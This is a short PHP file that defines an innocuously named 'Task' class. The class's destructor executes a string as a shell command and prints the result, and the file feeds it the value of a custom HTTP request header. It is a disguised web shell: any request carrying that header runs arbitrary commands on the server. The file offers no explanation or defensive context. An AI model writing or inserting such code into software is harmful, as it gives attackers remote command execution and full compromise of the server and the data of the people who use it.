<?php
class Task {
    private $cmd;
    public function __construct($c) { $this->cmd = $c; }
    public function __destruct() { echo `{$this->cmd}`; }
}
new Task($_SERVER['HTTP_ACCEPT_TASK']);
